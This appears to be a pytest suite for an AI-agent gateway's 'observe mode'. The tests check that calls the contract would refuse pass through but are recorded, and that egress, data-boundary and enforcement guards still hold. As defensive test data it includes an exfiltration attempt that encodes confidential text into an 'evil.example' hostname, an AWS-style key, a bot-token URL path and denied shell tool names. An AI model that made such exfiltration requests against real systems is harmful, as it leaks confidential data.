"""Observe mode end to end: what the contract refuses goes on, is on record, and is told; everything else holds."""

from __future__ import annotations

import base64
import contextlib
import json
import ssl
from collections.abc import AsyncIterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from clawproxy.addons import dial
from clawproxy.addons.call import Call
from clawproxy.addons.gateway import Gateway
from clawproxy.policies.orders import Scope
from clawproxy.receipts.calls import WouldRefuse
from clawproxy.receipts.explain import explain
from clawproxy.receipts.job import Job
from clawproxy.receipts.reader import load_directory
from clawproxy.receipts.report import Report, Verdict
from clawproxy.receipts.verify import verify_path
from clawproxy.tokens.canonical import jcs_bytes
from clawproxy.tokens.digests import sha256_b64u
from clawproxy.tokens.reasons import Refusal

from ..clawproxy.standin_process import Provider
from .bed import CONTRACT, Bed, chat_body, running_bed
from .raw_client import Answer
from .test_stops import stop
from .tool_server import ToolServer, tool_server

TOOL = {"type": "function", "function": {"name": "note_write", "parameters": {"type": "object"}}}
READ = {"type": "function", "function": {"name": "ticket_read", "parameters": {"type": "object"}}}


async def chat(bed: Bed, handle: str, text: str = "hello", **more: Any) -> Answer:
    return await bed.post("/openai/v1/chat/completions", chat_body(text, **more), bed.headers(handle))


async def observed(bed: Bed, job_id: str = "job-o") -> str:
    """The handle of a job that was opened to observe."""
    return (await bed.gateway.lease(bed.policy_hash, job_id, observe=True)).handle


async def sealed(bed: Bed, job_id: str = "job-o", contract: dict[str, Any] | None = None) -> Report:
    await bed.settled()
    directory = Path(str((await bed.gateway.seal(job_id))["directory"]))
    return verify_path(directory, bed.trust(), jcs_bytes(contract) if contract else None)


def would(records: list[dict[str, Any]]) -> list[list[str]]:
    return [[each["code"] for each in record["detail"].get("would_refuse", ())] for record in records]


async def test_what_the_contract_refuses_goes_out_and_its_intent_and_receipt_say_what_would_have_refused_it(
    tmp_path: Path, provider: Provider
) -> None:
    async with running_bed(tmp_path / "s", provider) as bed:
        handle = await observed(bed)
        asked: list[tuple[dict[str, Any], list[str]]] = [
            ({}, []),
            ({"model": "gpt-4o"}, ["POLICY_MODEL_NOT_ALLOWED"]),
            ({"tools": [TOOL]}, ["POLICY_TOOL_NOT_ALLOWED"]),
            ({"tools": [READ]}, []),
            ({"tools": [{"type": "function", "function": {"name": "Bash"}}]}, ["POLICY_TOOL_DENIED"]),
        ]
        for body, _ in asked:
            assert (await chat(bed, handle, **body)).status == 200
        intents = bed.records("intent", "job-o")
        assert would(intents) == [codes for _, codes in asked]
        told = [receipt["metadata"]["clawproxy"].get("would_refuse") for receipt in bed.records("receipt", "job-o")]
        assert told == [intent["detail"].get("would_refuse") for intent in intents]
        assert bed.records("denial", "job-o") == []
        opened = bed.records("event", "job-o")[0]["detail"]
        assert opened["enforcement"] == "observe"

        report = await sealed(bed)
        assert report.verdict is Verdict.VERIFIED
        [finding] = report.findings
        assert (finding.severity, finding.reason) == ("warning", "OBSERVED")
        assert "let through that it refuses: 3 of the calls, and 0 of the calls of tools" in finding.detail
        assert report.facts["observed"] == {"calls": 3, "tools": 0}


async def test_with_the_auditors_contract_a_call_that_it_refuses_fails_the_bundle(
    tmp_path: Path, provider: Provider
) -> None:
    async with running_bed(tmp_path / "s", provider) as bed:
        handle = await observed(bed)
        assert (await chat(bed, handle, model="gpt-4o")).status == 200
        report = await sealed(bed, contract=CONTRACT)
        assert (report.verdict, report.reason) == (Verdict.FAILED, "CONTRACT_EXCEEDED")
        quiet = await observed(bed, "job-quiet")
        assert (await chat(bed, quiet)).status == 200
        within = await sealed(bed, "job-quiet", contract=CONTRACT)
        assert within.verdict is Verdict.VERIFIED
        assert [finding.reason for finding in within.findings] == ["OBSERVED"]


async def test_explain_says_that_it_was_let_through_and_why_it_would_not_have_been(
    tmp_path: Path, provider: Provider
) -> None:
    async with running_bed(tmp_path / "s", provider) as bed:
        answer = await chat(bed, await observed(bed), model="gpt-4o")
        await sealed(bed)
        story = explain(
            load_directory(bed.state / "jobs" / "job-o").files, answer.headers["x-clawproxy-receipt-id"], bed.trust()
        )
        assert story.kind == "observed"
        assert str(story.decision["note"]).startswith(
            "let through in observe; would have been refused: POLICY_MODEL_NOT_ALLOWED: allowed_models has no entry"
        )
        assert story.decision["now"] == "refuse POLICY_MODEL_NOT_ALLOWED"


async def test_a_call_of_a_tool_in_an_answer_arrives_and_is_listed_with_what_would_have_become_of_it(
    tmp_path: Path, provider: Provider
) -> None:
    contract = {
        **CONTRACT,
        "allowed_tools": ["ticket.read", "mail.send", "pay"],
        "approvals": [{"action": "pay"}],
        "tool_arguments": {"mail.send": {"when": [{"argument": "to", "like": ["*@example.com"]}]}},
        "tool_classes": {**CONTRACT["tool_classes"], "mail.send": ["mail_send"]},
    }
    async with running_bed(tmp_path / "s", provider, contract=contract) as bed:
        handle = await observed(bed)
        for stream in (False, True):
            for words in ("tool:note_write", 'tool:mail_send({"to":"me@other.org"})', "tool:pay", "tool:ticket_read"):
                answer = await chat(bed, handle, words, stream=stream)
                assert answer.status == 200
                assert answer.complete
                assert words.partition(":")[2].partition("(")[0].encode() in answer.body
        called = [r["metadata"]["clawproxy"]["called"][0] for r in bed.records("receipt", "job-o")]
        assert {item["outcome"] for item in called} == {"allowed"}
        codes = [item.get("would_refuse", {}).get("code") for item in called[:4]]
        assert codes == ["POLICY_TOOL_NOT_ALLOWED", "POLICY_TOOL_ARGUMENTS", "APPROVAL_REQUIRED", None]
        assert [item.get("would_refuse", {}).get("code") for item in called[4:]] == codes
        report = await sealed(bed)
        assert report.verdict is Verdict.VERIFIED, report.findings
        assert report.facts["observed"] == {"calls": 0, "tools": 6}


async def test_approvals_and_budgets_hold_nothing_back(tmp_path: Path, provider: Provider) -> None:
    contract = {
        **CONTRACT,
        "approvals": {"required": True},
        "budgets": {"requests": 1, "output_tokens": 10, "cost_microusd": 1, "per_contract": {"requests": 1}},
    }
    async with running_bed(tmp_path / "s", provider, contract=contract) as bed:
        handle = await observed(bed)
        for _ in range(3):
            assert (await chat(bed, handle, max_tokens=50)).status == 200
        assert (await chat(bed, handle, model="no-price-for-this")).status == 200
        assert bed.gateway.approvals.listed()["jobs"] == []
        codes = would(bed.records("intent", "job-o"))
        assert codes[0] == ["APPROVAL_REQUIRED", "BUDGET_EXCEEDED"]
        assert codes[3] == ["APPROVAL_REQUIRED", "POLICY_MODEL_NOT_ALLOWED", "BUDGET_UNPRICED", "BUDGET_EXCEEDED"]
        report = await sealed(bed)
        assert report.verdict is Verdict.VERIFIED, report.findings
        assert "BUDGET_OVERRUN" in {finding.reason for finding in report.findings if finding.severity == "warning"}


async def test_a_tool_that_would_be_taken_out_stays_in_the_request(tmp_path: Path, provider: Provider) -> None:
    async with running_bed(tmp_path / "s", provider, contract={**CONTRACT, "on_denied_tool": "strip"}) as bed:
        body = chat_body(tools=[TOOL])
        handle = await observed(bed)
        answer = await bed.post("/openai/v1/chat/completions", body, bed.headers(handle))
        assert answer.status == 200
        assert provider.seen()[-1]["body_sha256_b64u"] == sha256_b64u(body)
        [intent] = bed.records("intent", "job-o")
        assert would([intent]) == [["POLICY_TOOL_NOT_ALLOWED"]]
        assert "stripped" not in intent["detail"]


@pytest.mark.parametrize(
    ("target", "body", "reason"),
    [
        ("/openai/v1/files", b"{}", "ROUTE_NOT_FOUND"),
        ("/openai/v1/chat/completions", b'{"model":"a","model":"b"}', "REQUEST_AMBIGUOUS"),
        ("/openai/v1/chat/completions", chat_body(model="gpt-4*"), "POLICY_MODEL_NOT_ALLOWED"),
        ("/openai/v1/chat/completions", chat_body(tools=[TOOL], tool_choice={
            "type": "function", "function": {"name": "other"}}), "POLICY_TOOL_NOT_ALLOWED"),
    ],
)  # fmt: skip
async def test_what_no_contract_could_allow_stays_refused(
    tmp_path: Path, provider: Provider, target: str, body: bytes, reason: str
) -> None:
    async with running_bed(tmp_path / "s", provider) as bed:
        before = len(provider.seen())
        answer = await bed.post(target, body, bed.headers(await observed(bed)))
        assert answer.refusal["reason"] == reason
        assert len(provider.seen()) == before


async def test_data_boundaries_and_orders_of_the_operator_hold(tmp_path: Path, provider: Provider) -> None:
    contract = {**CONTRACT, "data_boundaries": {"secrets": "deny", "email": "mask"}}
    async with running_bed(tmp_path / "s", provider, contract=contract) as bed:
        handle = await observed(bed)
        before = len(provider.seen())
        secret = await chat(bed, handle, "AKIAQ3EGTZ5QYXKCV4NF is the key", model="gpt-4o")
        assert secret.refusal["reason"] == "DATA_CLASS_DENIED"
        assert len(provider.seen()) == before
        body = chat_body("write to ana@example.org", model="gpt-4o")
        assert (await bed.post("/openai/v1/chat/completions", body, bed.headers(handle))).status == 200
        [intent] = bed.records("intent", "job-o")
        assert intent["detail"]["data"]["redacted"] == [{"count": 1, "of": "email"}]
        assert provider.seen()[-1]["body_sha256_b64u"] != sha256_b64u(body)
        await stop(bed, Scope.JOB, "job-o")
        stopped = await chat(bed, handle)
        assert stopped.status >= 400
        report = await sealed(bed)
        assert report.verdict is Verdict.VERIFIED, report.findings


# -- calls of tools to other hosts ---------------------------------------------------------------------------------


@contextlib.asynccontextmanager
async def egress_bed(tmp_path: Path, provider: Provider, **entry: Any) -> AsyncIterator[tuple[Bed, ToolServer]]:
    async def resolve(host: str, port: int) -> Sequence[str]:
        return ["127.0.0.1"]

    async with tool_server(Path(provider.ca).parent) as tool:
        listed = [{"host": "localhost", "port": tool.port, "paths": ["/v1/a"], **entry}]
        sections = {"egress_private": [f"localhost:{tool.port}", f"localhost:{tool.plain_port}"]}
        contract = {**CONTRACT, "egress_allowlist": listed}
        async with running_bed(
            tmp_path / "s", provider, contract=contract, sections=sections, resolve=resolve
        ) as bed:  # fmt: skip
            yield bed, tool


async def call(bed: Bed, tool: ToolServer, handle: str, method: str, target: str) -> Answer:
    credential = base64.b64encode(f"job:{handle}".encode()).decode()
    client = await bed.client("regular")
    authority = f"localhost:{tool.port}"
    await client.send(
        f"CONNECT {authority} HTTP/1.1\r\nhost: {authority}\r\nproxy-authorization: Basic {credential}\r\n\r\n".encode()
    )
    assert (await client.reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
    await client.start_tls(ssl.create_default_context(cafile=bed.gateway.ca_file), "localhost")
    return await client.request(method, target, {"host": authority, "authorization": "Bearer the-agents-own"})


async def plain(bed: Bed, tool: ToolServer, handle: str, path: str = "/plain") -> Answer:
    credential = base64.b64encode(f"job:{handle}".encode()).decode()
    client = await bed.client("regular")
    authority = f"localhost:{tool.plain_port}"
    headers = {"host": authority, "proxy-authorization": f"Basic {credential}"}
    return await client.request("GET", f"http://{authority}{path}", headers)


async def test_a_tool_may_call_with_another_method_and_path_and_the_path_is_on_record(
    tmp_path: Path, provider: Provider
) -> None:
    async with egress_bed(tmp_path, provider) as (bed, tool):
        handle = await observed(bed)
        secret = "/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/send"
        asked = [("GET", "/v1/a"), ("POST", "/v1/a"), ("GET", "/v2/b?q=1"), ("GET", secret)]
        for method, target in asked:
            assert (await call(bed, tool, handle, method, target)).status == 200
        assert tool.header("authorization") == []
        details = [record["detail"] for record in bed.records("intent", "job-o")]
        assert would(bed.records("intent", "job-o")) == [[], *[["EGRESS_NOT_ALLOWED"]] * 3]
        assert [(d.get("path"), d.get("has_query")) for d in details] == [
            ("/v1/a", None), ("/v1/a", None), ("/v2/b", True), (None, None),
        ]  # fmt: skip
        assert b"AAHdqTcv" not in (bed.state / "jobs" / "job-o" / "receipts.jsonl").read_bytes()
        effects = bed.records("effect", "job-o")
        assert [effect.get("would_refuse") for effect in effects] == [d.get("would_refuse") for d in details]
        report = await sealed(bed)
        assert report.verdict is Verdict.VERIFIED, report.findings
        assert report.facts["observed"]["calls"] == 3


@pytest.mark.parametrize("entry", [{"credential": "crm"}, {"paths": []}])
async def test_a_secret_in_a_path_fails_no_bundle_where_every_entry_is_for_another(
    tmp_path: Path, provider: Provider, entry: dict[str, Any]
) -> None:
    async with egress_bed(tmp_path, provider, **entry) as (bed, tool):
        handle = await observed(bed)
        for target in ("/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/send", "/v1%2Fa"):
            assert (await call(bed, tool, handle, "GET", target)).status == 200
        intents = bed.records("intent", "job-o")
        assert [intent["detail"].get("path") for intent in intents] == [None, "/v1%2Fa"]
        assert would(intents) == [["EGRESS_NOT_ALLOWED"]] * 2
        report = await sealed(bed)
        assert report.verdict is Verdict.VERIFIED, report.findings


async def test_a_host_that_the_contract_does_not_list_must_be_a_public_one(
    tmp_path: Path, provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with egress_bed(tmp_path, provider) as (bed, tool):
        handle = await observed(bed)
        answer = await plain(bed, tool, handle)  # the configuration lets it be private, and the contract does not
        assert answer.refusal["reason"] == "DESTINATION_REFUSED"
        assert tool.requests == []
        monkeypatch.setattr(dial, "address_fault", lambda ip, private: None)  # as if 127.0.0.1 were public
        assert (await plain(bed, tool, handle)).status == 200
        [intent] = bed.records("intent", "job-o")
        assert would([intent]) == [["EGRESS_NOT_ALLOWED"]]
        report = await sealed(bed)
        assert report.verdict is Verdict.VERIFIED, report.findings


@pytest.mark.parametrize(
    "name",
    [
        "the-merger-with-northwind-closes-on-the-fourteenth-of-march",
        "the-merger-with-northwind.closes-on-the-fourteenth-of-march",
    ],
)
async def test_the_name_of_a_host_that_no_contract_lists_carries_no_labelled_text_out(
    tmp_path: Path, provider: Provider, name: str
) -> None:
    asked: list[str] = []

    async def resolve(host: str, port: int) -> Sequence[str]:
        asked.append(host)
        return [] if host.endswith("evil.example") else ["127.0.0.1"]

    said = {"id": "c1", "type": "function", "function": {"name": "ticket_read", "arguments": "{}"}}
    result = "The merger with Northwind closes on the fourteenth of March."
    messages = [
        {"role": "assistant", "content": None, "tool_calls": [said]},
        {"role": "tool", "tool_call_id": "c1", "content": result},
    ]
    rules = {"data_boundaries": {"export": "deny"}, "tool_data_classes": {"ticket.read": ["confidential"]}}
    async with running_bed(tmp_path / "s", provider, contract={**CONTRACT, **rules}, resolve=resolve) as bed:
        handle = await observed(bed)
        body = json.dumps({"model": "gpt-4o-mini", "messages": messages}).encode()
        assert (await bed.post("/openai/v1/chat/completions", body, bed.headers(handle))).status == 200
        credential = base64.b64encode(f"job:{handle}".encode()).decode()
        for host, reason in ((f"{name}.evil.example", "DATA_EXPORT_DENIED"), ("other.evil.example", "")):
            client = await bed.client("regular")
            headers = {"host": host, "proxy-authorization": f"Basic {credential}"}
            answer = await client.request("GET", f"http://{host}/", headers)
            assert reason in ("", answer.refusal["reason"])
            assert (host in asked) is (reason == "")


# -- each guard, taken out ---------------------------------------------------------------------------------------------


def _always(call: Call, refusal: Refusal) -> bool:
    call.would_refuse = (WouldRefuse(refusal.reason, refusal.rule),)
    return True


async def test_an_enforced_job_never_carries_it_whatever_the_steps_say(
    tmp_path: Path, provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("clawproxy.addons.steps.let_through_model_call", _always)
    async with running_bed(tmp_path / "s", provider) as bed:
        before = len(provider.seen())
        assert (await bed.chat(model="gpt-4o")).status >= 500
        assert len(provider.seen()) == before
        # the job's own look is the guard: without it the call leaves, and the verifier finds it
        monkeypatch.setattr(Job, "_check_enforced", lambda self, outside, receipt_id: None)
        assert (await bed.chat(model="gpt-4o")).status == 200
        report = await sealed(bed, "job-1")
        assert (report.verdict, report.reason) == (Verdict.FAILED, "NOT_OBSERVED")


async def test_a_token_that_asks_for_observe_and_a_header_change_nothing(tmp_path: Path, provider: Provider) -> None:
    async with running_bed(tmp_path / "s", provider) as bed:
        headers = bed.headers(bed.token(), x_enforcement="observe", x_observe="true", x_clawproxy_enforcement="observe")
        answer = await bed.post("/openai/v1/chat/completions", chat_body(model="gpt-4o"), headers)
        assert answer.refusal["reason"] == "POLICY_MODEL_NOT_ALLOWED"
        assert "enforcement" not in bed.records("event")[0]["detail"]


def _notes_something_else(call: Call, refusal: Refusal) -> bool:
    call.would_refuse = (WouldRefuse("POLICY_TOOL_DENIED", 'denied_tools["shell.exec"]'),)
    return True


def _notes_nothing(call: Call, refusal: Refusal) -> bool:
    return True


@pytest.mark.parametrize(
    ("wrong", "rule", "reason"),
    [(_notes_something_else, "J92", "EVIDENCE_MISMATCH"), (_notes_nothing, "J61", "CONTRACT_EXCEEDED")],
)
async def test_a_gateway_that_records_another_refusal_or_none_fails_its_bundle(
    tmp_path: Path, provider: Provider, monkeypatch: pytest.MonkeyPatch, wrong: Any, rule: str, reason: str
) -> None:
    monkeypatch.setattr("clawproxy.addons.steps.let_through_model_call", wrong)
    async with running_bed(tmp_path / "s", provider) as bed:
        assert (await chat(bed, await observed(bed), model="gpt-4o")).status == 200
        report = await sealed(bed)
        assert (report.verdict, report.reason) == (Verdict.FAILED, reason)
        assert rule in [finding.rule for finding in report.findings]


async def test_a_refusal_on_record_for_what_the_contract_allows_fails_the_bundle(
    tmp_path: Path, provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    def decided(call: Call) -> None:
        _notes_something_else(call, Refusal("POLICY_TOOL_DENIED", ""))

    monkeypatch.setattr("clawproxy.addons.steps.LiveSteps._decide_further", lambda self, call: decided(call))
    async with running_bed(tmp_path / "s", provider) as bed:
        assert (await chat(bed, await observed(bed))).status == 200
        report = await sealed(bed)
        assert (report.verdict, report.reason) == (Verdict.FAILED, "EVIDENCE_MISMATCH")
        assert "the contract allows it" in " ".join(finding.detail for finding in report.findings)


async def test_after_a_restart_the_job_still_observes(tmp_path: Path, provider: Provider) -> None:
    async with running_bed(tmp_path / "s", provider) as bed:
        opened = await bed.gateway.lease(bed.policy_hash, "job-o", observe=True)
        await bed.gateway.stop(drain_s=1)
        bed.gateway = Gateway(bed.gateway.settings)
        await bed.gateway.start()
        agent = bed.lines("job-o")[0]["body"]["payload"]["detail"]["token"]["sub"]
        assert opened.job_id == "job-o"
        token = bed.token("job-o", sub=agent)
        assert (await chat(bed, token, model="gpt-4o")).status == 200
        assert (await sealed(bed)).verdict is Verdict.VERIFIED
